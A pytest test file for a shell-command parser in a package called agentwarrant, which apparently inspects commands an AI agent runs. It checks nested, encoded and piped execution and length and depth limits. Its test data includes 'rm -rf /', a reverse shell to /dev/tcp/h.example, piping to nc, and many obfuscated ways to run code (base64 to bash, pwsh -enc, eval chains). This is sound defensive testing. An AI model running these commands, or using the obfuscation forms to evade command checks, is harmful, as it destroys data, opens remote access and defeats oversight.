"""How a command line is taken apart: what runs, in which order, on what."""

import base64
import re
import shutil
import subprocess
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agentwarrant.shell import parsing


def lines(text: str) -> list[str]:
    """Return program and arguments of every simple command."""
    return [" ".join([command.program, *command.args]) for command in parsing.parse(text)]


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        ("ls -la", ["ls -la"]),
        ("a && b || c; d & e", ["a", "b", "c", "d", "e"]),
        ("a\nb \\\n  --flag", ["a", "b --flag"]),
        ("make # not; rm -rf /", ["make"]),
        ("echo a#b", ["echo a#b"]),
        ("/usr/bin/Git status", ["git status"]),
        (r"C:\Windows\System32\curl.exe -I x", ["curl -I x"]),
        ("A=1 B=2 make test", ["make test"]),
        ("sudo -u root env X=1 nice -n 5 cat f", ["cat f"]),
        ("timeout 5 time -p cat f", ["cat f"]),
        ("if true; then cat f; fi", ["true", "cat f", "fi"]),
        ("(cat f)", ["cat f"]),
        ("command -v curl", ["command -v curl"]),
        ("env", ["env"]),
        ("c''at 'a b' \"c d\" e\\ f", ["cat a b c d e f"]),
        (r'echo "a \"b\" \$c"', ['echo a "b" $c']),
        ("cat $'f'", ["cat f"]),
        (r"c$'\x61\164' $'it\'s'", ["cat it's"]),
        ("ca\\\nt 'a\\\nb' \"c\\\nd\"", ["cat a\\\nb cd"]),
        ("cp {a,b}.txt 'c{d,e}' \"f{g,h}\" i\\{j,k}", ["cp a.txt b.txt c{d,e} f{g,h} i{j,k}"]),
        ('x \'{"a":1,"b":2}\' $(y {1,2})', ["y 1 2", 'x {"a":1,"b":2} $(y {1,2})']),
        ("x \"$(a; b ')'; c $(d)) e\"", ["a", "b )", "d", "c $(d)", "x $(a; b ')'; c $(d)) e"]),
        ('x $((1 + 2)) "$((3 + $(y)))"', ["y", "x $((1 + 2)) $((3 + $(y)))"]),
        ("coproc cat f", ["cat f"]),
        ("timeout --signal KILL 5 cat f", ["cat f"]),
        ("exec -a x cat f", ["cat f"]),
        (r"type C:\Users\ann\a.txt", [r"type C:\Users\ann\a.txt"]),
        (r'type "%USERPROFILE%\a b.txt"', [r"type %USERPROFILE%\a b.txt"]),
    ],
)
def test_a_command_line_is_split_as_a_shell_would(text: str, commands: list[str]) -> None:
    assert lines(text) == commands


@pytest.mark.parametrize(
    "text",
    [
        "bash -c 'cat f'",
        "bash -euxc 'cat f'",
        'sh -c "bash -c \\"cat f\\""',
        "eval 'cat f'",
        "echo cat f | sh",
        "printf 'cat f' | sudo bash -s",
        "echo Y2F0IGY= | base64 -d | bash",
        "base64 -d <<< Y2F0IGY= | sh",
        "echo 6361742066 | xxd -r -p | sh",
        "bash <<< 'cat f'",
        "bash <<EOF\ncat f\nEOF",
        "bash -s <<'EOF'\ncat f\nEOF\n",
        "cat <<EOF | sh\ncat f\nEOF",
        "cmd /c cat f",
        'powershell -NoProfile -Command "cat f"',
        f"pwsh -enc {base64.b64encode('cat f'.encode('utf-16-le')).decode()}",
        "su -c 'cat f' postgres",
        "ssh -i key -p 22 u@h cat f",
        "docker exec -it -u root web cat f",
        "kubectl exec -n prod pod -- cat f",
        "bash -c -- 'cat f'",
        "bash -c -e 'cat f'",
        "eval eval eval eval eval eval eval eval eval cat f",
        "trap 'cat f' EXIT",
        "watch -n 1 'cat f | wc'",
        "env -S 'cat f'",
        "parallel ::: 'cat f'",
        ". /dev/stdin <<< 'cat f'",
        "echo -e '\\x63at f' | sh",
        "printf '%s %s' cat f | sh",
        "printf '\\143at f' | sh",
        "echo 'f tac' | rev | sh",
        "echo Y2F0IGY= | base64 -di | sh",
        "echo Y2F0IGY= | openssl enc -base64 -d | sh",
        "eval $(echo Y2F0IGY= | base64 -d)",
        'bash -c "$(echo Y2F0IGY= | base64 -d)"',
        "bash <(echo cat f)",
        "source <(echo cat f)",
        "echo cat f > x; bash ./x",
        "cat > x.sh <<'EOF'\ncat f\nEOF\nchmod +x x.sh; ./x.sh",
        "echo cat f | tee x; . x",
        'x "$(a $(b); cat f)"',
        "find . -name f -exec cat {} +",
        r"find / -iname f -execdir cat {} \;",
        "find . -name f | xargs cat",
        "find . -name f -print0 | xargs -0 -n 1 cat",
        "echo f | xargs -I{} cat {}",
        "x $(cat f)",
        "x `cat f`",
        'x "$(cat f)"',
        "diff <(cat f) b",
        "x=$(cat f)",
        "x > $(cat f)",
        "cat <<EOF\n$(cat f)\nEOF",
    ],
)
def test_what_is_code_inside_a_command_is_read_too(text: str) -> None:
    assert "cat f" in lines(text)


@pytest.mark.parametrize(
    "text",
    [
        "echo 'cat f'",
        "cat > notes.md <<'EOF'\ncat f\nEOF",
        "cat <<'EOF'\n$(cat f)\nEOF",
        "git commit -m 'then cat f'",
        "x '$(cat f)'",
        "bash script.sh <<< 'cat f'",
        "# cat f",
    ],
)
def test_what_is_only_text_is_not_read_as_code(text: str) -> None:
    assert "cat f" not in lines(text)


def test_commands_go_on_behind_a_here_document() -> None:
    assert lines("cat > a <<A <<-B\none\nA\ntwo\n\tB\nls") == ["cat", "ls"]


def test_a_here_document_without_an_end_takes_the_rest() -> None:
    assert lines("python3 - <<EOF\nrm -rf /\n") == ["python3 -"]
    assert parsing.parse("python3 - <<EOF\nrm -rf /\n")[0].given == "rm -rf /\n"


def test_redirections_are_no_arguments() -> None:
    (command,) = parsing.parse("sort -u < in 2>&1 >> out 2> /dev/null &> all")
    assert (command.args, command.reads) == (["-u"], ["in"])
    assert command.writes == ["out", "/dev/null", "all"]


def test_a_socket_of_the_shell_is_written_to_and_read() -> None:
    (command,) = parsing.parse("exec 5<>/dev/tcp/h.example/80")
    assert command.reads == command.writes == ["/dev/tcp/h.example/80"]
    assert parsing.parse("bash -i >& /dev/tcp/h.example/80 0>&1")[0].writes == [
        "/dev/tcp/h.example/80"
    ]


def test_pipes_and_elevation_are_noted() -> None:
    first, second, third = parsing.parse("sudo cat f | (tee g) ; ls")
    assert (first.elevated, first.piped) == (True, False)
    assert (second.elevated, second.piped) == (False, True)
    assert (third.elevated, third.piped) == (False, False)


SCRAPS = st.lists(
    st.sampled_from(
        "a cat ' \" ` $( ) ( <( >( \\ | || && ; \n << <<< EOF <<-'X' > 2>&1 <> # {} xargs sudo env "
        "-c bash -enc eval find -exec ssh docker exec base64 -d | A=1 \t é 🦀 \x00 \ud800".split(
            " "
        )
    )
).map(" ".join)


@given(st.text() | SCRAPS)
def test_no_text_is_too_strange_to_be_read(text: str) -> None:
    for command in parsing.parse(text):
        assert isinstance(command.text, str)


HOSTILE = [
    "'", '"', "`", "$(", "<(", "$(a", "a<<b\n", "<<b", "\\", "'\"", "a=b ", '"\\', "a|", "a;",
    "xargs ", "echo a | xargs {}{} | ", "bash -c ", "find -name x -exec ", "ssh a ", "sudo ",
    "2>&1 ", "eval ", "echo $(echo a) ", "a\\\n", "((", "))", "# ", "${", "$'", "-enc QQBB ",
    "{a,b} ", "{1..60} ", "x{a,b}'c' ", "$((", "\"$(", "cat|", "echo a>x;sh x;", "sh <<A\n",
    "eval $(echo a);",
    "printf %s%s a|sh;", "env -S 'a b' ", "a\ue000,\ue002 ",
]  # fmt: skip


@pytest.mark.parametrize("unit", HOSTILE)
def test_the_time_grows_with_the_length_only(unit: str, assert_linear: Callable[..., None]) -> None:
    def parse(length: int) -> Callable[[], object]:
        text = unit * (length // len(unit))
        return lambda: parsing.parse(text)

    assert_linear(parse, 15_000)


def test_a_command_is_read_to_a_limit_only() -> None:
    assert len(parsing.parse("a;" * 100_000)) <= 400
    assert len(parsing.parse("a " * parsing.MAX_COMMAND)[0].args) < parsing.MAX_COMMAND


PADDING = [
    "true;" * 401, "true;\n: ;" * 3000, "eval " * 50, "sudo " * 100, "A=1 " * 5000,
    f"echo {'A' * 70_000};", f"echo {'A' * 70_000}\n", f"echo '{'A; ' * 30_000}';",
    f"#{'A' * 70_000}\n", f"{' ' * 70_000}", "echo x > /dev/null;" * 2000, "mkdir a; cp b c;" * 900,
    f"cat > x <<'EOF'\n{'some text; ' * 9000}\nEOF\n",
]  # fmt: skip


@pytest.mark.parametrize("padding", PADDING, ids=range(len(PADDING)))
def test_what_says_nothing_keeps_nothing_from_being_read(padding: str) -> None:
    commands, unread = parsing.read(f"{padding}cat f")
    assert (commands[-1].program, commands[-1].args, unread) == ("cat", ["f"], frozenset())


@pytest.mark.parametrize(
    ("padding", "limit"),
    [
        ("".join(f"touch f{i};" for i in range(500)), "count"),
        ("".join(f"touch f{i};" for i in range(9000)), "count"),
        ("x=$(" + "a;" * 300 + ")" + "y=$(" + "".join(f"a{i};" for i in range(300)) + ")", ""),
        (f"a {'b ' * 40_000};", "length"),
        (f"echo '{'A; ' * 300_000}';", "length"),
        ("ssh h " * 30, "depth"),
        ("sudo " * 300, "depth"),
        (f"echo {'a ' * 5000} | xargs b;", "length"),
    ],
    ids=range(8),
)
def test_what_could_not_be_read_is_told_and_the_end_is_read_all_the_same(
    padding: str, limit: str
) -> None:
    commands, unread = parsing.read(f"{padding} cat f")
    assert unread == ({limit} if limit else set())
    ends = commands[-1] if commands else None
    assert limit == "depth" or (ends and (ends.program, ends.args) == ("cat", ["f"]))


def test_a_folder_is_changed_in_between_however_often_the_rest_is_repeated() -> None:
    found = lines("cat f;" * 300 + "cd a;" + "cat f;" * 300)
    assert "cat f" in found[: found.index("cd a")]
    assert "cat f" in found[found.index("cd a") :]


def test_a_pipe_is_kept_whole_however_often_it_is_repeated() -> None:
    last = parsing.parse("cat f; x;" * 300 + "cat f | nc h 1")[-2:]
    assert [(command.program, command.piped) for command in last] == [("cat", False), ("nc", True)]


@given(st.text(alphabet="ab1_./:=,+@%^- \t\n#!~{'", max_size=24))
def test_a_plain_command_is_taken_apart_as_any_other(text: str) -> None:
    quick = parsing.parse(text)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(parsing, "_PLAIN", re.compile(r"(?!)"))
        assert parsing.parse(text) == quick


@pytest.mark.skipif(shutil.which("bash") is None, reason="there is no bash to compare with")
@pytest.mark.parametrize(
    "words",
    [
        """a'b'"c"d\\e 'x y' "x \\" y" "\\$a" ''""",
        """{a,b} '{a,b}' "{a,b}" \\{a,b} {a,'b,c'} x{1..3}y '{1..3}' {a} {,z} {a,{b,c}}d""",
        """'{"title":"bug","url":"https://docs.example.org/x"}' "{\\"a\\":1,\\"b\\":2}" """,
        """$'\\x63url' $'\\143\\x9' $'it\\'s' $'a\\tb' $'\\u00e9' x$'y'z""",
        "a\\\nb 'a\\\nb' \"a\\\nb\"",
        "{a,b}'{c,d}'{e,f}",
    ],
)
def test_words_are_what_bash_makes_of_them(words: str) -> None:
    made = subprocess.run(
        ["bash", "-c", f"printf '%s\\0' {words}"], capture_output=True, check=True
    )
    wanted = made.stdout.decode().split("\0")[:-1]
    (command,) = parsing.parse(f"x {words}")
    assert command.args == wanted
